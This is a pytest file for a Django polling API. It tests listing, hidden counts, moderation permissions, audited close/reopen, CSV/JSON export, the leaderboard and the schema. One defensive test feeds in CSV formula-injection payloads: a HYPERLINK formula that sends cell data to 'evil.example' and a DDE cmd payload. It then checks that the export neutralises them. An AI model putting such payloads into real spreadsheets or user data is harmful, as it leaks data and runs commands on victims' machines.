"""Listing, moderation through the API, export, the voter-token endpoint and the schema."""

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from rest_framework.authtoken.models import Token

from polls.domain.services import poll_create, poll_set_status, votes_apply
from polls.models import AuditEntry, Poll
from polls.tests.factories import make_poll, vote_event

pytestmark = pytest.mark.django_db


@pytest.fixture
def client():
    return Client(HTTP_HOST="localhost")


def token_header(user) -> dict:
    return {"HTTP_AUTHORIZATION": f"Token {Token.objects.get_or_create(user=user)[0].key}"}


def test_polls_can_be_created_with_an_options_list_of_up_to_ten(client):
    body = {"question": "Best decade?", "options": [f"{1900 + 10 * n}s" for n in range(10)]}
    response = client.post("/polls", json.dumps(body), content_type="application/json")
    assert response.status_code == 201
    created = response.json()
    assert [created[f"option{n}"] for n in range(1, 11)] == [0] * 10
    assert [o["text"] for o in created["options"]][-1] == "1990s"
    body["options"].append("2000s")
    response = client.post("/polls", json.dumps(body), content_type="application/json")
    assert (response.status_code, response.json()) == (
        400,
        {"options": ["A poll has 2 to 10 options; this one has 11."]},
    )
    both = {"question": "q", "options": ["a", "b"], "option1": "c", "option2": "d"}
    assert client.post("/polls", json.dumps(both), content_type="application/json").json() == {
        "options": ["Give options either as a list or as option1..optionN, not both."]
    }


def test_polls_are_listed_paginated_filtered_and_searched(client):
    for n in range(25):
        make_poll(f"Question {n}")
    colour = make_poll("Favourite colour of the sea?")
    votes_apply(events=[vote_event(colour, 1) for _ in range(3)])
    Poll.objects.filter(question="Question 0").update(status=Poll.Status.CLOSED)
    Poll.objects.filter(question="Question 1").update(hidden=True)

    page = client.get("/polls").json()
    assert page["count"] == 25  # the hidden poll is not listed
    assert len(page["results"]) == 20 and page["next"].endswith("page=2")
    assert page["results"][0]["question"] == "Favourite colour of the sea?"  # newest first
    assert client.get("/polls?search=colour").json()["results"][0]["option1"] == 3
    assert [p["question"] for p in client.get("/polls?status=closed").json()["results"]] == ["Question 0"]
    assert client.get("/polls?status=open&page_size=5").json()["count"] == 24
    assert client.get("/polls?ordering=-total_votes").json()["results"][0]["id"] == colour.pk
    bad = client.get("/polls?status=maybe")
    assert (bad.status_code, bad.json()) == (400, {"status": ['"maybe" is not a valid choice.']})


def test_ordered_by_total_a_poll_holding_its_counts_back_comes_last_and_gives_nothing_away(client):
    """Ranked by its real total among the others, an after_close poll's place told its
    total: a poll of one's own, voted up one vote at a time, passed it at that total."""
    five, hidden, one = (
        poll_create(question=question, options=("a", "b"), results_visibility=visibility)
        for question, visibility in (
            ("five", Poll.Visibility.ALWAYS),
            ("hidden", Poll.Visibility.AFTER_CLOSE),
            ("one", Poll.Visibility.ALWAYS),
        )
    )
    votes_apply(
        events=[vote_event(five, 1) for _ in range(5)]
        + [vote_event(hidden, 2) for _ in range(100)]
        + [vote_event(one, 1)]
    )

    def order(ordering):
        return [poll["id"] for poll in client.get(f"/polls?ordering={ordering}").json()["results"]]

    assert order("-total_votes") == [five.pk, one.pk, hidden.pk]
    assert order("total_votes") == [one.pk, five.pk, hidden.pk]
    poll_set_status(poll=hidden, status=Poll.Status.CLOSED)  # its counts are everyone's now
    assert order("-total_votes") == [hidden.pk, five.pk, one.pk]


def test_a_poll_holding_its_counts_back_shows_a_version_that_tells_nothing_of_them(client):
    """The version grows with every applied batch: shown while the counts were null, it
    told about how many votes had come in."""
    poll = poll_create(question="Held back?", options=("a", "b"), results_visibility=Poll.Visibility.AFTER_CLOSE)

    def shown():
        body = client.get(f"/polls/{poll.pk}").json()
        return body["total"], body["version"]

    for option in (1, 2, 1):
        votes_apply(events=[vote_event(poll, option)])
    assert shown() == (None, 0)
    poll_set_status(poll=poll, status=Poll.Status.CLOSED)
    assert shown() == (3, 4)  # three batches and the close
    poll_set_status(poll=poll, status=Poll.Status.OPEN)
    votes_apply(events=[vote_event(poll, 2)])
    assert shown() == (None, 5)  # the reopen's version: never below what was shown before


def test_a_page_of_after_vote_polls_asks_once_whether_the_viewer_voted(client):
    polls = [
        poll_create(question=f"q{n}", options=("a", "b"), results_visibility=Poll.Visibility.AFTER_VOTE)
        for n in range(6)
    ]
    with CaptureQueriesContext(connection) as one_poll:
        assert client.get("/polls?search=q0").status_code == 200
    with CaptureQueriesContext(connection) as six_polls:
        listed = client.get("/polls").json()["results"]
    assert len(listed) == len(polls)
    assert all(poll["results_hidden"] for poll in listed)
    assert len(six_polls.captured_queries) == len(one_poll.captured_queries)


def test_close_and_reopen_need_staff_or_the_creator_and_are_audited(client):
    users = get_user_model().objects
    creator, stranger, staff = (users.create_user(name) for name in ("creator", "stranger", "staff"))
    users.filter(pk=staff.pk).update(is_staff=True)
    poll = poll_create(question="Mine", options=["a", "b"], created_by=creator)

    assert client.post(f"/polls/{poll.pk}/close").status_code == 401
    assert client.post(f"/polls/{poll.pk}/close", **token_header(stranger)).status_code == 403
    closed = client.post(f"/polls/{poll.pk}/close", **token_header(creator))
    assert (closed.status_code, closed.json()["status"]) == (200, "closed")
    reopened = client.post(f"/polls/{poll.pk}/reopen", **token_header(staff))
    assert (reopened.status_code, reopened.json()["status"]) == (200, "open")
    assert [(e.action, e.actor.username) for e in AuditEntry.objects.order_by("id")] == [
        ("close", "creator"),
        ("reopen", "staff"),
    ]
    # A poll staff closed (for abuse, say) stays closed to its creator.
    assert client.post(f"/polls/{poll.pk}/close", **token_header(staff)).status_code == 200
    refused = client.post(f"/polls/{poll.pk}/reopen", **token_header(creator))
    assert (refused.status_code, refused.json()) == (
        403,
        {"detail": "A moderator closed this poll: only staff may reopen it."},
    )
    assert client.post(f"/polls/{poll.pk}/reopen", **token_header(staff)).status_code == 200
    assert client.post(f"/polls/{poll.pk}/close", **token_header(creator)).status_code == 200
    assert client.post(f"/polls/{poll.pk}/reopen", **token_header(creator)).status_code == 200


def test_results_export_as_csv_and_json(client):
    poll = make_poll()
    votes_apply(events=[vote_event(poll, 3), vote_event(poll, 3), vote_event(poll, 1), vote_event(poll, 2)])
    response = client.get(f"/polls/{poll.pk}/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="poll-{poll.pk}-results.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [
        ["poll_id", "question", "position", "option", "votes", "percent"],
        [str(poll.pk), "Favourite colour?", "1", "Red", "1", "25.0"],
        [str(poll.pk), "Favourite colour?", "2", "Blue", "1", "25.0"],
        [str(poll.pk), "Favourite colour?", "3", "Green", "2", "50.0"],
        [str(poll.pk), "Favourite colour?", "4", "Yellow", "0", "0.0"],
    ]
    exported = client.get(f"/polls/{poll.pk}/export.json").json()
    assert (exported["total"], exported["option3"]) == (4, 2)


def test_a_text_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client):
    poll = poll_create(
        question='=HYPERLINK("http://evil.example/?"&A1,"open")',
        options=("@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-2", "Plain"),
    )
    rows = list(csv.reader(io.StringIO(client.get(f"/polls/{poll.pk}/export.csv").content.decode())))
    assert {row[1] for row in rows[1:]} == {'\'=HYPERLINK("http://evil.example/?"&A1,"open")'}
    assert [row[3] for row in rows[1:]] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1", "'-2", "Plain"]
    # The JSON export is data, not a sheet: the texts are as they were given.
    exported = client.get(f"/polls/{poll.pk}/export.json").json()
    assert exported["question"].startswith("=HYPERLINK")


def test_hidden_polls_disappear_from_the_api_and_the_leaderboard(client):
    poll = make_poll()
    votes_apply(events=[vote_event(poll, 1)])
    Poll.objects.filter(pk=poll.pk).update(hidden=True)
    assert client.get(f"/polls/{poll.pk}").status_code == 404
    assert client.post(f"/polls/{poll.pk}/vote", '{"option": 1}', content_type="application/json").status_code == 404
    assert client.get("/leaderboard").json() == {"leaderboard": []}
    assert client.get(f"/leaderboard?poll={poll.pk}").status_code == 404


def test_leaderboard_of_one_poll_and_of_polls_by_total(client):
    colours, pets = make_poll(), make_poll("Cats or dogs?", ("Cats", "Dogs"))
    votes_apply(events=[vote_event(colours, 2), vote_event(pets, 1), vote_event(pets, 1), vote_event(pets, 2)])
    one = client.get(f"/leaderboard?poll={pets.pk}").json()["leaderboard"]
    assert [(e["option"], e["count"]) for e in one] == [("Cats", 2), ("Dogs", 1)]
    polls = client.get("/leaderboard?by=polls").json()["leaderboard"]
    assert polls == [
        {"poll_id": pets.pk, "question": "Cats or dogs?", "total": 3},
        {"poll_id": colours.pk, "question": "Favourite colour?", "total": 1},
    ]


def test_the_openapi_schema_and_docs_are_served_with_examples(client):
    response = client.get("/api/schema", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert response.status_code == 200
    schema = json.loads(response.content)
    assert schema["openapi"].startswith("3.")
    paths = schema["paths"]
    for path in ("/polls", "/polls/{poll_id}", "/polls/{poll_id}/vote", "/leaderboard", "/voters"):
        assert path in paths, path
    vote = paths["/polls/{poll_id}/vote"]["post"]
    assert set(vote["responses"]) >= {"204", "400", "404", "409", "503"}
    key = next(p for p in vote["parameters"] if p["name"] == "Idempotency-Key")
    assert "Scoped to the poll and the voter" in key["description"] and "409" in key["description"]
    assert "examples" in vote["requestBody"]["content"]["application/json"]
    assert "examples" in paths["/polls"]["post"]["requestBody"]["content"]["application/json"]
    docs = client.get("/api/docs")
    assert docs.status_code == 200 and b"swagger" in docs.content.lower()
